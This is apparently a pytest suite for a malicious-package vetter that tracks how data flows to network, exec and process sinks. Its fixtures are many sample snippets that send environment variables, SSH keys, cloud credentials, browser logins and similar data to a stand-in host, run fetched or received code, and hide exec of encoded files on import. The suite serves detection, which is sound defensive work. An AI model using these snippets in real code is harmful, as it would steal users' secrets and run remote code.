"""Origins travel: through values, functions, objects, modules and files, to what sends, runs or writes."""

from __future__ import annotations

from collections.abc import Mapping

import pytest
from tests.vetter.python.interpreting import acts, executed, runs, sent

from stockade.model.vetting import Phase
from stockade.vetter.acts import Kind, Origin

POST = "import requests, os\n"
SINK = "\nrequests.post('https://collect.invalid', data={})"


def post(before: str, value: str) -> str:
    """A source in which ``value`` is posted."""
    return f"{POST}{before}\nrequests.post('https://collect.invalid', data={value})"


ENVIRONMENT: dict[str, str] = {
    "whole": post("", "dict(os.environ)"),
    "as JSON": post("import json", "json.dumps(dict(os.environ))"),
    "text of it": post("", "str(os.environ)"),
    "formatted": post("", "f'{os.environ}'"),
    "percent": post("", "'%s' % os.environ"),
    "format method": post("", "'{}'.format(os.environ)"),
    "format with a name": post("", "'{e}'.format(e=os.environ)"),
    "sum": post("", "'x' + str(os.environ)"),
    "joined": post("", "','.join(os.environ.values())"),
    "joined pairs": post("", "','.join(f'{k}={v}' for k, v in os.environ.items())"),
    "base64": post("import base64", "base64.b64encode(str(os.environ).encode())"),
    "compressed": post("import zlib", "zlib.compress(repr(os.environ).encode())"),
    "list": post("", "[1, os.environ]"),
    "dictionary": post("", "{'a': {'b': os.environ}}"),
    "starred dictionary": post("", "{**os.environ}"),
    "copy": post("", "os.environ.copy()"),
    "appended": post("x = []\nx.append(os.environ)", "x"),
    "extended": post("x = []\nx.extend([os.environ])", "x"),
    "set item": post("x = {}\nx['a'] = os.environ", "x"),
    "updated": post("x = {}\nx.update(os.environ)", "x"),
    "augmented": post("x = ''\nx += str(os.environ)", "x"),
    "loop": post("x = {}\nfor k in os.environ:\n    x[k] = os.environ[k]", "x"),
    "loop over items": post("x = ''\nfor k, v in os.environ.items():\n    x += k + v", "x"),
    "comprehension": post("x = {k: v for k, v in os.environ.items() if 'KEY' in k}", "x"),
    "filter": post("x = list(filter(lambda p: 'KEY' in p[0], os.environ.items()))", "x"),
    "map": post("x = list(map(str, os.environ.values()))", "x"),
    "sorted": post("x = sorted(os.environ.items())", "x"),
    "zip": post("x = list(zip(os.environ, os.environ.values()))", "x"),
    "enumerate": post("x = [v for i, v in enumerate(os.environ.values())]", "x"),
    "function": post("def f():\n    return dict(os.environ)", "f()"),
    "argument": post("def f(x):\n    return [x]", "f(os.environ)"),
    "sink in a function": (
        f"{POST}def f(x):\n    requests.post('https://collect.invalid', data=x)\nf(dict(os.environ))"
    ),
    "object": post(
        (
            "class C:\n    def __init__(self):\n        self.x = os.environ\n"
            "    def get(self):\n        return self.x"
        ),
        "C().get()",
    ),
    "object set later": post("class C:\n    pass\nc = C()\nc.x = os.environ", "c.x"),
    "whole object": post("class C:\n    pass\nc = C()\nc.x = os.environ", "vars(c)"),
    "property": post("class C:\n    @property\n    def x(self):\n        return os.environ", "C().x"),
    "class attribute": post("class C:\n    x = os.environ", "C.x"),
    "data class": post(
        "import dataclasses\n@dataclasses.dataclass\nclass C:\n    x: dict\nc = C(dict(os.environ))", "c.x"
    ),
    "named tuple": post(
        "import collections\nT = collections.namedtuple('T', 'a b')\nt = T(1, os.environ)", "t.b"
    ),
    "global": post("X = None\ndef f():\n    global X\n    X = os.environ\nf()", "X"),
    "closure": post("def f():\n    x = os.environ\n    return lambda: x", "f()()"),
    "generator": post("def f():\n    yield os.environ", "list(f())"),
    "generator with a loop": post(
        "def f():\n    for k in os.environ:\n        yield k, os.environ[k]", "dict(f())"
    ),
    "await": (
        "import asyncio, os, requests\nasync def f():\n    return dict(os.environ)\n"
        "async def main():\n"
        "    requests.post('https://collect.invalid', data=await f())\n"
        "asyncio.run(main())"
    ),
    "walrus": post("", "(x := os.environ)"),
    "conditional": post("", "os.environ if os.environ else None"),
    "or": post("", "None or os.environ"),
    "branch": post("x = None\nif len(os.sys.argv) > 1:\n    x = os.environ", "x"),
    "try": post("x = {}\ntry:\n    x = dict(os.environ)\nexcept Exception:\n    pass", "x"),
    "copied": post("import copy", "copy.deepcopy(os.environ)"),
    "string buffer": post("import io\nb = io.StringIO()\nb.write(str(os.environ))", "b.getvalue()"),
    "bytes buffer": post(
        "import io\nb = io.BytesIO()\nb.write(str(os.environ).encode())\nb.seek(0)", "b.read()"
    ),
    "zip in memory": post(
        (
            "import io, zipfile\nb = io.BytesIO()\nz = zipfile.ZipFile(b, 'w')\n"
            "z.writestr('e', str(os.environ))\nz.close()"
        ),
        "b.getvalue()",
    ),
    "file and back": post("open('/tmp/e', 'w').write(str(os.environ))", "open('/tmp/e').read()"),
    "file with with": post(
        (
            "with open('/tmp/e', 'w') as f:\n    f.write(str(os.environ))\n"
            "with open('/tmp/e') as g:\n    x = g.read()"
        ),
        "x",
    ),
    "path and back": post(
        "import pathlib\np = pathlib.Path('/tmp/e')\np.write_text(str(os.environ))", "p.read_text()"
    ),
    "temporary file": post(
        (
            "import tempfile\nf = tempfile.NamedTemporaryFile('w', delete=False)\n"
            "f.write(str(os.environ))\nf.close()"
        ),
        "open(f.name).read()",
    ),
    "json file": post(
        "import json\njson.dump(dict(os.environ), open('/tmp/e', 'w'))", "open('/tmp/e', 'rb')"
    ),
    "queue": post("import queue\nq = queue.Queue()\nq.put(os.environ)", "q.get()"),
    "from os import environ": (
        "from os import environ\nimport requests\n"
        "requests.post('https://collect.invalid', json=dict(environ))"
    ),
    "getattr": post("", "dict(getattr(os, 'env' + 'iron'))"),
    "command": post("import subprocess", "subprocess.check_output('env', shell=True)"),
    "command with popen": post("", "os.popen('printenv').read()"),
    "urllib": (
        "import os, urllib.request, urllib.parse\n"
        "urllib.request.urlopen('https://collect.invalid', data=urllib.parse.urlencode(os.environ).encode())"
    ),
    "urllib request": (
        "import os, urllib.request\n"
        "r = urllib.request.Request('https://collect.invalid', data=str(os.environ).encode())\n"
        "urllib.request.urlopen(r)"
    ),
    "urllib2": (
        "import os, urllib, urllib2\nurllib2.urlopen('https://collect.invalid', urllib.urlencode(os.environ))"
    ),
    "query": "import os, requests\nrequests.get('https://collect.invalid/?e=' + str(os.environ))",
    "header": "import os, requests\nrequests.get('https://collect.invalid', headers={'X': str(os.environ)})",
    "session": (
        "import os, requests\ns = requests.Session()\n"
        "s.post('https://collect.invalid', json=dict(os.environ))"
    ),
    "session with": (
        "import os, requests\nwith requests.Session() as s:\n"
        "    s.put('https://collect.invalid', data=str(os.environ))"
    ),
    "httpx": "import os, httpx\nhttpx.Client().post('https://collect.invalid', json=dict(os.environ))",
    "aiohttp": (
        "import aiohttp, asyncio, os\nasync def f():\n"
        "    async with aiohttp.ClientSession() as s:\n"
        "        async with s.post('https://collect.invalid', json=dict(os.environ)) as r:\n"
        "            await r.text()\nasyncio.run(f())"
    ),
    "http.client": (
        "import http.client, os\nc = http.client.HTTPSConnection('collect.invalid')\n"
        "c.request('POST', '/', str(os.environ))"
    ),
    "socket": (
        "import os, socket\ns = socket.socket()\ns.connect(('collect.invalid', 80))\n"
        "s.send(str(os.environ).encode())"
    ),
    "socket sendall": (
        "import os, socket\ns = socket.create_connection(('collect.invalid', 80))\n"
        "s.sendall(str(os.environ).encode())"
    ),
    "datagram": (
        "import os, socket\nsocket.socket(2, 2).sendto(str(os.environ).encode(), ('collect.invalid', 53))"
    ),
    "DNS": (
        "import os, socket\nsocket.gethostbyname(str(os.environ).encode().hex()[:60] + '.collect.invalid')"
    ),
    "mail": (
        "import os, smtplib\ns = smtplib.SMTP('collect.invalid')\n"
        "s.sendmail('a@b.invalid', 'c@d.invalid', str(os.environ))"
    ),
    "exec of text": "exec('import os, requests\\nrequests.post(\"https://collect.invalid\", data=dict(os.environ))')",
    "thread": (
        "import os, requests, threading\ndef f(x):\n"
        "    requests.post('https://collect.invalid', data=x)\n"
        "threading.Thread(target=f, args=(dict(os.environ),)).start()"
    ),
    "partial": (
        "import functools, os, requests\n"
        "f = functools.partial(requests.post, 'https://collect.invalid')\n"
        "f(data=dict(os.environ))"
    ),
    "star imports": (
        "from requests import *\nfrom os import *\npost('https://collect.invalid', data=dict(environ))"
    ),
    "alias of the client": (
        "import os\nfrom requests import post as p\np('https://collect.invalid', data=dict(os.environ))"
    ),
    "client by getattr": (
        "import os, requests\n"
        "getattr(requests, 'po' + 'st')('https://collect.invalid', data=dict(os.environ))"
    ),
}
"""Each sends the whole environment."""
OTHERS: dict[str, tuple[Origin, str]] = {
    "variable": (Origin.VARIABLE, post("", "os.environ['AWS_SECRET_ACCESS_KEY']")),
    "variable by get": (Origin.VARIABLE, post("", "os.environ.get('GITHUB_TOKEN')")),
    "variable by getenv": (Origin.VARIABLE, post("", "os.getenv('HF_TOKEN')")),
    "variables by loop": (
        Origin.VARIABLE,
        post("x = {}\nfor k in ('A_TOKEN', 'B_KEY'):\n    x[k] = os.getenv(k)", "x"),
    ),
    "ssh key": (Origin.CREDENTIAL, post("", "open(os.path.expanduser('~/.ssh/id_rsa')).read()")),
    "ssh key by Path": (
        Origin.CREDENTIAL,
        post("from pathlib import Path", "(Path.home() / '.ssh' / 'id_rsa').read_text()"),
    ),
    "ssh key by join": (
        Origin.CREDENTIAL,
        post("", "open(os.path.join(os.environ['HOME'], '.ssh', 'id_rsa')).read()"),
    ),
    "credentials by loop": (
        Origin.CREDENTIAL,
        post(
            (
                "x = []\nfor n in ('.aws/credentials', '.npmrc'):\n"
                "    x.append(open(os.path.expanduser('~/' + n)).read())"
            ),
            "x",
        ),
    ),
    "file as an upload": (
        Origin.CREDENTIAL,
        (
            "import os, requests\n"
            "requests.post('https://collect.invalid', files={'f': open(os.path.expanduser('~/.netrc'), 'rb')})"
        ),
    ),
    "host name": (Origin.HOST, post("import socket", "socket.gethostname()")),
    "user": (Origin.HOST, post("import getpass", "getpass.getuser()")),
    "working folder": (Origin.HOST, post("", "os.getcwd()")),
    "whoami": (Origin.HOST, post("import subprocess", "subprocess.check_output(['whoami'])")),
    "clipboard": (Origin.CLIPBOARD, post("import pyperclip", "pyperclip.paste()")),
    "screen": (Origin.SCREEN, post("import pyautogui", "pyautogui.screenshot()")),
    "metadata service": (
        Origin.METADATA_SERVICE,
        post("", "requests.get('http://169.254.169.254/latest/meta-data/iam').text"),
    ),
    "command output": (Origin.OUTPUT, post("import subprocess", "subprocess.getoutput('ls -la')")),
    "password parameter": (
        Origin.SECRET,
        f"{POST}def login(user, password):\n    requests.post('https://collect.invalid', data=password)",
    ),
    "key parameter": (
        Origin.WALLET,
        f"{POST}def sign(private_key):\n    requests.post('https://collect.invalid', data=private_key)",
    ),
    "secret of an object": (
        Origin.SECRET,
        (
            f"{POST}class C:\n    def __init__(self, api_key):\n        self.k = api_key\n"
            f"    def go(self):\n"
            f"        requests.post('https://collect.invalid', data=self.k)"
        ),
    ),
    "browser": (
        Origin.BROWSER,
        post("", "open(os.path.expanduser('~/.config/google-chrome/Default/Login Data'), 'rb').read()"),
    ),
}
NOT_SENT: dict[str, tuple[Origin, str]] = {
    "digest of a secret": (
        Origin.SECRET,
        (
            f"import hashlib\n{POST}def f(password):\n"
            f"    requests.post('https://collect.invalid', data=hashlib.sha256(password.encode()).hexdigest())"
        ),
    ),
    "signature": (
        Origin.SECRET,
        (
            f"import hmac\n{POST}def f(secret, body):\n"
            f"    requests.post('https://collect.invalid', data=hmac.new(secret, body, 'sha256').hexdigest())"
        ),
    ),
    "environment of a subprocess": (
        Origin.ENVIRONMENT,
        "import os, subprocess\nsubprocess.run(['make'], env=dict(os.environ, A='1'))",
    ),
    "environment that is only read": (Origin.ENVIRONMENT, f"{POST}x = dict(os.environ){SINK}"),
    "environment that is tested": (
        Origin.ENVIRONMENT,
        f"{POST}if 'CI' in os.environ:\n    requests.post('https://collect.invalid', data='x')",
    ),
    "variable that is tested": (
        Origin.VARIABLE,
        f"{POST}if os.getenv('CI'):\n    requests.post('https://collect.invalid', data='x')",
    ),
    "length": (Origin.ENVIRONMENT, post("", "len(os.environ)")),
    "name that is bound anew": (Origin.ENVIRONMENT, post("x = os.environ\nx = 1", "x")),
    "other key": (Origin.ENVIRONMENT, post("x = {'a': os.environ, 'b': 1}", "x['b']")),
    "other attribute": (
        Origin.ENVIRONMENT,
        post("class C:\n    def __init__(self):\n        self.a = os.environ\n        self.b = 1", "C().b"),
    ),
    "other argument": (Origin.ENVIRONMENT, post("def f(a, b):\n    return b", "f(os.environ, 1)")),
    "other element": (Origin.ENVIRONMENT, post("x, y = os.environ, 1", "y")),
}


@pytest.mark.parametrize("source", [pytest.param(source, id=name) for name, source in ENVIRONMENT.items()])
def test_the_environment_is_sent(source: str) -> None:
    assert Origin.ENVIRONMENT in sent(source)


@pytest.mark.parametrize(
    ("origin", "source"), [pytest.param(origin, source, id=name) for name, (origin, source) in OTHERS.items()]
)
def test_the_origin_is_sent(origin: Origin, source: str) -> None:
    assert origin in sent(source)


@pytest.mark.parametrize(
    ("origin", "source"),
    [pytest.param(origin, source, id=name) for name, (origin, source) in NOT_SENT.items()],
)
def test_the_origin_is_not_sent(origin: Origin, source: str) -> None:
    assert origin not in sent(source)


STEAL = "import requests\ndef steal(x):\n    requests.post('https://collect.invalid', data=x)\n"
MODULES: dict[str, Mapping[str, str | bytes]] = {
    "from import": {
        "pkg/__init__.py": "import os\nfrom .net import steal\nsteal(dict(os.environ))",
        "pkg/net.py": STEAL,
    },
    "import of the module": {
        "pkg/__init__.py": "import os\nfrom . import net\nnet.steal(dict(os.environ))",
        "pkg/net.py": STEAL,
    },
    "absolute import": {
        "pkg/__init__.py": "import os\nimport pkg.net\npkg.net.steal(dict(os.environ))",
        "pkg/net.py": STEAL,
    },
    "absolute import by an alias": {
        "pkg/__init__.py": "import os\nimport pkg.net as n\nn.steal(dict(os.environ))",
        "pkg/net.py": STEAL,
    },
    "star import": {
        "pkg/__init__.py": "import os\nfrom .net import *\nsteal(dict(os.environ))",
        "pkg/net.py": STEAL,
    },
    "import_module": {
        "pkg/__init__.py": (
            "import importlib, os\nimportlib.import_module('.net', 'pkg').steal(dict(os.environ))"
        ),
        "pkg/net.py": STEAL,
    },
    "source elsewhere": {
        "pkg/__init__.py": "from .net import steal\nfrom .facts import FACTS\nsteal(FACTS)",
        "pkg/net.py": STEAL,
        "pkg/facts.py": "import os\nFACTS = dict(os.environ)",
    },
    "re-export": {
        "pkg/__init__.py": "import os\nfrom .api import steal\nsteal(dict(os.environ))",
        "pkg/api.py": "from .net import steal",
        "pkg/net.py": STEAL,
    },
    "subpackage": {
        "pkg/__init__.py": "import os\nfrom .a.b import steal\nsteal(dict(os.environ))",
        "pkg/a/__init__.py": "",
        "pkg/a/b.py": STEAL,
    },
    "two levels up": {
        "pkg/__init__.py": "from .a import b",
        "pkg/a/__init__.py": "",
        "pkg/a/b.py": "import os\nfrom ..net import steal\nsteal(dict(os.environ))",
        "pkg/net.py": STEAL,
    },
    "class of another module": {
        "pkg/__init__.py": "import os\nfrom .net import C\nC(dict(os.environ)).go()",
        "pkg/net.py": (
            "import requests\nclass C:\n    def __init__(self, x):\n        self.x = x\n"
            "    def go(self):\n"
            "        requests.post('https://collect.invalid', data=self.x)"
        ),
    },
    "base of another module": {
        "pkg/__init__.py": "import os\nfrom .net import C\nclass D(C):\n    x = os.environ\nD().go()",
        "pkg/net.py": (
            "import requests\nclass C:\n    def go(self):\n"
            "        requests.post('https://collect.invalid', data=self.x)"
        ),
    },
    "state of a module": {
        "pkg/__init__.py": "import os\nfrom . import state, net\nstate.x = dict(os.environ)\nnet.go()",
        "pkg/state.py": "x = None",
        "pkg/net.py": (
            "import requests\nfrom . import state\ndef go():\n"
            "    requests.post('https://collect.invalid', data=state.x)"
        ),
    },
    "getattr of a module": {
        "pkg/__init__.py": "import os\nfrom . import lazy\nlazy.anything(dict(os.environ))",
        "pkg/lazy.py": f"{STEAL}def __getattr__(name):\n    return steal",
    },
    "import by getattr of a module": {
        "pkg/__init__.py": "import os\nfrom .lazy import anything\nanything(dict(os.environ))",
        "pkg/lazy.py": f"{STEAL}def __getattr__(name):\n    return steal",
    },
    "circle": {
        "pkg/__init__.py": "from . import a",
        "pkg/a.py": "import os\nfrom . import b\nE = dict(os.environ)\nb.go()",
        "pkg/b.py": f"{STEAL}def go():\n    from . import a\n    steal(a.E)",
    },
    "namespace package": {
        "ns/pkg/__init__.py": "import os\nfrom ns.pkg.net import steal\nsteal(dict(os.environ))",
        "ns/pkg/net.py": STEAL,
    },
    "sys.modules": {
        "pkg/__init__.py": "import os, sys\nimport pkg.net\nsys.modules['pkg.net'].steal(dict(os.environ))",
        "pkg/net.py": STEAL,
    },
}


@pytest.mark.parametrize("files", [pytest.param(files, id=name) for name, files in MODULES.items()])
def test_the_flow_crosses_modules(files: Mapping[str, str | bytes]) -> None:
    assert Origin.ENVIRONMENT in sent(files)


FILES: dict[str, Mapping[str, str | bytes]] = {
    "data file": {
        "pkg/__init__.py": "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'd.txt')).read())",
        "pkg/d.txt": "import os\nos.system('id')",
    },
    "data file by Path": {
        "pkg/__init__.py": "from pathlib import Path\nexec((Path(__file__).parent / 'd.txt').read_text())",
        "pkg/d.txt": "import os\nos.system('id')",
    },
    "data file with with": {
        "pkg/__init__.py": (
            "import os\nwith open(os.path.dirname(__file__) + '/d.txt') as f:\n    exec(f.read())"
        ),
        "pkg/d.txt": "import os\nos.system('id')",
    },
    "encoded data file": {
        "pkg/__init__.py": (
            "import base64, os\n"
            "exec(base64.b64decode(open(os.path.join(os.path.dirname(__file__), 'd.bin'), 'rb').read()))"
        ),
        "pkg/d.bin": b"aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ==",
    },
    "pkgutil": {
        "pkg/__init__.py": "import pkgutil\nexec(pkgutil.get_data(__name__, 'd.txt'))",
        "pkg/d.txt": "import os\nos.system('id')",
    },
    "resources": {
        "pkg/__init__.py": (
            "import importlib.resources\nexec(importlib.resources.files('pkg').joinpath('d.txt').read_text())"
        ),
        "pkg/d.txt": "import os\nos.system('id')",
    },
    "module by path": {
        "pkg/__init__.py": (
            "import os, runpy\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'd.txt'))"
        ),
        "pkg/d.txt": "import os\nos.system('id')",
    },
    "Python as a process": {
        "pkg/__init__.py": (
            "import subprocess, sys, os\n"
            "subprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), 'd.py')])"
        ),
        "pkg/d.py": "import os\nif __name__ == '__main__':\n    os.system('id')",
    },
    "written and run": {
        "pkg/__init__.py": (
            "import runpy\nopen('/tmp/x.py', 'w').write('import os\\nos.system(\"id\")')\n"
            "runpy.run_path('/tmp/x.py')"
        )
    },
    "python -c": {
        "pkg/__init__.py": (
            "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import os; os.system(\"id\")'])"
        )
    },
}


@pytest.mark.parametrize("files", [pytest.param(files, id=name) for name, files in FILES.items()])
def test_code_of_a_file_is_walked(files: Mapping[str, str | bytes]) -> None:
    assert ("id", Phase.IMPORT) in runs(files)


def test_what_is_written_and_started_keeps_its_origin() -> None:
    source = (
        "import os, subprocess, urllib.request\n"
        "data = urllib.request.urlopen('https://stage.invalid/x').read()\n"
        "with open('/tmp/tool', 'wb') as f:\n    f.write(data)\n"
        "os.chmod('/tmp/tool', 0o755)\nsubprocess.Popen(['/tmp/tool'])"
    )
    started = [act for act in acts(source, Kind.SPAWN) if act.target == "/tmp/tool"]  # noqa: S108 - text of a sample
    assert Origin.FETCHED in {taint.origin for act in started for taint in act.payload}


@pytest.mark.parametrize(
    "fetch",
    [
        "requests.get('https://stage.invalid/x').text",
        "requests.get('https://stage.invalid/x').content.decode()",
        "requests.get('https://stage.invalid/x').json()['code']",
        "urllib.request.urlopen('https://stage.invalid/x').read()",
        "urllib.request.urlopen('https://stage.invalid/x').read().decode('utf-8')",
        "httpx.get('https://stage.invalid/x').text",
        "urllib3.PoolManager().request('GET', 'https://stage.invalid/x').data",
        "base64.b64decode(requests.get('https://stage.invalid/x').content)",
        "zlib.decompress(urllib.request.urlopen('https://stage.invalid/x').read())",
        "''.join(requests.get('https://stage.invalid/x').text.split())",
        "next(requests.get('https://stage.invalid/x').iter_lines())",
        "subprocess.check_output(['curl', 'https://stage.invalid/x'])",
    ],
)
def test_fetched_code_that_is_run(fetch: str) -> None:
    source = f"import base64, httpx, requests, subprocess, urllib.request, urllib3, zlib\nexec({fetch})"
    found = {taint.origin for act in acts(source, Kind.EXECUTE) for taint in act.payload}
    assert Origin.FETCHED in found


@pytest.mark.parametrize(
    "run",
    ["exec(s.recv(9))", "os.system(s.recv(9).decode())", "subprocess.run(s.recv(9).decode(), shell=True)"],
)
def test_received_orders_that_are_run(run: str) -> None:
    source = (
        "import os, socket, subprocess\ns = socket.socket()\ns.connect(('control.invalid', 4040))\n"
        f"while True:\n    {run}"
    )
    found = {taint.origin for act in acts(source, Kind.EXECUTE, Kind.SPAWN) for taint in act.payload}
    assert Origin.RECEIVED in found


def test_a_command_line_carries_what_it_is_built_from() -> None:
    source = (
        "import os, subprocess\nsubprocess.run(['curl', '-d', str(os.environ), 'https://collect.invalid'])"
    )
    (act,) = (each for each in acts(source, Kind.SPAWN) if each.callee == "subprocess.run")
    assert Origin.ENVIRONMENT in {taint.origin for taint in act.payload}


def test_the_chain_tells_each_transformation() -> None:
    source = (
        "import base64, json, os, requests\nx = json.dumps(dict(os.environ))\ny = base64.b64encode(x.encode())\n"
        "requests.post('https://collect.invalid', data=y)"
    )
    (act,) = acts(source, Kind.SEND)
    (taint,) = (each for each in act.payload if each.origin is Origin.ENVIRONMENT)
    assert taint.at.line == 2
    steps = [step.what for step in taint.via]
    assert steps.index("json.dumps") < steps.index("base64.b64encode")
    assert act.at.line == 4
    assert act.target == "https://collect.invalid"


def test_constants_that_are_run_are_known() -> None:
    assert executed("exec('x = 1')") == ["x = 1"]
